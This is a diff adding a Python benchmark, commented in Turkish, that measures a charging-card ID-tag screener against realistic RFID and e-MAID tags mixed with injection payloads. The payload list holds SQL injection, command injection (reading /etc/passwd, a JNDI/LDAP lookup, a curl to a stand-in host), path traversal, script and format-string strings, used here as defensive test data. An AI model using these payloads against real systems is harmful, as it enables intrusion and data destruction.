@@ -0,0 +1,103 @@
+"""
+id_tag taraması: etiket/sn ve kural başına ayrı arama ile karşılaştırma.
+
+Karışım: ``--saldiri`` oranında enjeksiyon yükü (SQL, komut, yol, betik,
+biçim dizesi, boyut, karakter seti; rastgele büyük/küçük harf), geri kalanı
+gerçekçi kart kimlikleri (RFID UID, ayırıcılı / ayırıcısız e-MAID, ``USER-xxxx``). Birleşik
+``IdTagScreener`` ile her kural için ayrı ``re.search`` döngüsü karşılaştırılır;
+saldırı yüklerinde isabet kural kategorisine göre raporlanır.
+
+    python -m benchmarks.bench_screening --adet 200000 --saldiri 0.05
+"""
+import argparse
+import random
+import re
+import string
+import time
+from collections import Counter
+
+from secvolt.screening import KURALLAR, IdTagScreener
+
+YUKLER = [
+    ("sql", "' OR '1'='1' --"), ("sql", "admin'--"), ("sql", "x' or 1=1#"), ("sql", "1; DROP TABLE tags"),
+    ("sql", "' UNION/**/SELECT pw FROM u"), ("sql", "1' AND sleep(5)"), ("sql", "') or ('a'='a"),
+    ("sql", "information_schema"), ("komut", "a;cat /etc/passwd"), ("komut", "$(reboot)"),
+    ("komut", "`id`"), ("komut", "${jndi:ldap://x/a}"), ("komut", "x && curl evil"),
+    ("yol", "../../etc/passwd"), ("betik", "<script>alert(1)"), ("betik", "javascript:x"),
+    ("bicim", "%n%n%n%n"), ("boyut", "A" * 64), ("karakter_seti", "KART 1234"), ("kontrol", "AB\x00CD"),
+]
+
+
+def rastgele_harf(metin, rng):
+    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in metin)
+
+
+def etiketler_uret(adet, saldiri, rng):
+    hex_al = "0123456789ABCDEF"
+    etiketler, beklenen = [], []
+    for _ in range(adet):
+        if rng.random() < saldiri:
+            kategori, yuk = rng.choice(YUKLER)
+            etiketler.append(rastgele_harf(yuk, rng))
+            beklenen.append(kategori)
+            continue
+        tur = rng.randrange(4)
+        if tur == 0:
+            etiket = ":".join("".join(rng.choice(hex_al) for _ in range(2)) for _ in range(rng.choice((4, 7))))
+        elif tur == 1:
+            etiket = "TR-" + "".join(rng.choice(string.ascii_uppercase + string.digits) for _ in range(14))
+        elif tur == 2:
+            # ISO 15118 / DIN e-MAID, ``*`` ayırıcılı: DE*ABC*C12345678*9
+            alnum = string.ascii_uppercase + string.digits
+            etiket = "*".join(("TR", "".join(rng.choice(alnum) for _ in range(3)),
+                               "C" + "".join(rng.choice(alnum) for _ in range(8)), rng.choice(string.digits)))
+        else:
+            etiket = f"USER-{rng.randrange(10 ** 6):06d}"
+        etiketler.append(etiket)
+        beklenen.append(None)
+    return etiketler, beklenen
+
+
+def main():
+    parser = argparse.ArgumentParser(description="id_tag tarama ölçümü")
+    parser.add_argument('--adet', type=int, default=200000)
+    parser.add_argument('--saldiri', type=float, default=0.05)
+    args = parser.parse_args()
+
+    rng = random.Random(9)
+    etiketler, beklenen = etiketler_uret(args.adet, args.saldiri, rng)
+    tarayici = IdTagScreener()
+
+    t0 = time.perf_counter()
+    sonuclar = [tarayici.tara(e) for e in etiketler]
+    birlesik = time.perf_counter() - t0
+
+    ayri_regexler = [(ad, re.compile(desen, re.IGNORECASE | re.DOTALL)) for ad, _, desen in KURALLAR]
+    t0 = time.perf_counter()
+    for e in etiketler:
+        for ad, r in ayri_regexler:
+            if r.search(e):
+                break
+    ayri = time.perf_counter() - t0
+
+    temiz = [e for e, b in zip(etiketler, beklenen) if b is None]
+    t0 = time.perf_counter()
+    for e in temiz:
+        tarayici.tara(e)
+    temiz_sure = time.perf_counter() - t0
+
+    print(f"Birleşik regex: {args.adet / birlesik:,.0f} etiket/sn ({birlesik / args.adet * 1e6:.2f} µs/etiket)")
+    print(f"  yalnız temiz etiketler: {len(temiz) / temiz_sure:,.0f} etiket/sn")
+    print(f"Kural başına ayrı arama ({len(KURALLAR)} kural): {args.adet / ayri:,.0f} etiket/sn")
+
+    yanlis_alarm = sum(1 for s, b in zip(sonuclar, beklenen) if b is None and s is not None)
+    kacan = Counter(b for s, b in zip(sonuclar, beklenen) if b is not None and s is None)
+    dogru = Counter((b, s.kategori) for s, b in zip(sonuclar, beklenen) if b is not None and s is not None)
+    print(f"Yanlış alarm: {yanlis_alarm} / {len(temiz)}, kaçırılan: {sum(kacan.values())}")
+    print(f"{'beklenen':>14} {'raporlanan':>14} {'adet':>7}")
+    for (b, k), n in sorted(dogru.items()):
+        print(f"{b:>14} {k:>14} {n:>7}")
+
+
+if __name__ == '__main__':
+    main()